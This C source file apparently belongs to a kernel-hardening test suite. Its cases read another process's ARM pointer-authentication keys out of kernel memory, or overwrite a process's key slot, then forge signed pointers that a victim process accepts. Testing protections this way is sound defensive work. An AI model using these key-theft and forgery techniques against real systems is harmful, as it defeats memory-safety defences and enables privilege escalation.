// SPDX-License-Identifier: GPL-2.0-only
/*
 * Another process's keys of pointer authentication, read out of the kernel:
 * whoever has them forges the pointers that it takes for its own.
 */
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "pauth.h"
#include "tracee.h"

/* As with a service: it says whether a signature is its own, and not what its own is. */
struct service {
	int pid;
	int ask, answer;
};

/* With keys that nobody else has, and that nobody may ask it for by ptrace(). */
static void serve(int questions, int answers)
{
	uint64_t claimed[PAUTH_KEYS];
	struct pauth_state own;
	char right;

	raw_syscall(SYS_prctl, PR_PAC_RESET_KEYS, 0, 0, 0, 0);
	raw_syscall(SYS_prctl, PR_SET_DUMPABLE, 0, 0, 0, 0);
	pauth_state(&own);
	for (;;) {
		if (read(questions, claimed, sizeof(claimed)) != sizeof(claimed))
			break;
		right = !memcmp(claimed, own.signature, sizeof(claimed));
		if (write(answers, &right, 1) != 1)
			break;
	}
	raw_syscall(SYS_exit_group, 0, 0, 0, 0, 0);
}

static bool start_service(struct service *service)
{
	int questions[2], answers[2];

	if (pipe(questions) || pipe(answers))
		return false;
	service->pid = fork();
	if (!service->pid)
		serve(questions[0], answers[1]);
	service->ask = questions[1];
	service->answer = answers[0];
	return service->pid > 0;
}

static bool accepts(const struct service *service, const uint64_t *signature)
{
	size_t size = PAUTH_KEYS * sizeof(*signature);
	char right = 0;

	return write(service->ask, signature, size) == (ssize_t)size &&
	       read(service->answer, &right, 1) == 1 && right;
}

/* A process of the attacker's own signs with whatever keys it is given. */
static bool sign_with(const struct keys *keys, struct pauth_state *state)
{
	struct tracee forger;
	bool done;

	done = start_tracee(&forger) && !set_keys(&forger, keys) && step_tracee(&forger);
	if (done)
		*state = *forger.state;
	end_tracee(&forger);
	return done;
}

static enum outcome forge(const struct service *service, const struct keys *keys)
{
	struct pauth_state state;

	if (!sign_with(keys, &state))
		return broken("cannot sign with chosen keys");
	if (!accepts(service, state.signature))
		return lost("what was read are not the keys");
	return won("a service took pointers for its own that were signed with its stolen keys");
}

typedef int read_function(uint64_t addr, void *data, size_t len);

/* In parts that every way of reading can do at once. */
static enum outcome steal(read_function *read_kernel)
{
	struct pauth_state mine;
	struct service service;
	struct task task;
	struct keys keys;
	int err;

	if (!pauth_present())
		return skipped("no pointer authentication");
	pauth_state(&mine);
	if (!start_service(&service) || accepts(&service, mine.signature))
		return broken("no service with keys of its own");
	if (ktask(service.pid, &task) || !task.keys)
		return broken("where the keys are is not known");
	err = read_kernel(task.keys, &keys.address, sizeof(keys.address));
	if (!err)
		err = read_kernel(task.keys + sizeof(keys.address), &keys.ga, sizeof(keys.ga));
	return err ? lost("reading the keys: %s", strerror(-err)) : forge(&service, &keys);
}

static int read_plain(uint64_t addr, void *data, size_t len)
{
	return kload("plain", addr, data, len);
}

static int read_memcpy(uint64_t addr, void *data, size_t len)
{
	return kload("memcpy", addr, data, len);
}

enum outcome pauth_keys_plain(void)
{
	return steal(read_plain);
}

enum outcome pauth_keys_memcpy(void)
{
	return steal(read_memcpy);
}

static int read_nofault(uint64_t addr, void *data, size_t len)
{
	return kload("nofault", addr, data, len);
}

enum outcome pauth_keys_nofault(void)
{
	return steal(read_nofault);
}

enum outcome pauth_keys_kcore(void)
{
	return steal(kcore_read);
}

enum outcome pauth_keys_copy_to_user(void)
{
	return steal(kcopy);
}

/* Where the keys have a name, it is enough to change the name. */
static int give_keys(const struct task *from, const struct task *to)
{
	struct keys keys;

	if (to->keys_slot)
		return kwrite64(to->keys_slot, kread64(from->keys_slot));
	return kread(from->keys, &keys, sizeof(keys)) ?:
	       kwrite(to->keys, &keys.address, sizeof(keys.address)) ?:
	       kwrite(to->keys + sizeof(keys.address), &keys.ga, sizeof(keys.ga));
}

/* A process of the attacker's own runs with the service's keys: the kernel installs them. */
enum outcome pauth_slot_number(void)
{
	struct service service;
	struct tracee forger;
	struct task from, to;
	int err;

	if (!pauth_present())
		return skipped("no pointer authentication");
	if (!start_service(&service) || !start_tracee(&forger) ||
	    ktask(service.pid, &from) || ktask(forger.pid, &to))
		return broken("no service, or no forger");
	err = give_keys(&from, &to);
	if (err)
		return lost("changing the forger's keys: %s", strerror(-err));
	if (!step_tracee(&forger))
		return lost("the forger was killed");
	if (!accepts(&service, forger.state->signature))
		return lost("the forger signs with other keys");
	return won("a service took pointers for its own that a process signed with keys it was given");
}
